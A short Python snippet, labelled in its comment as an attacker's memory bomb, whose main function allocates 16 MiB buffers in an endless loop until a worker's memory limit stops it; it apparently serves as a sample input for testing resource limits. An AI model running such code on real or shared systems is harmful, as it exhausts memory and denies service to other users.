# An attacker's Python memory bomb: grows until the worker's memory limit stops it.
def main(ctx):
    hoard = []
    while True:
        hoard.append(bytearray(16 << 20))
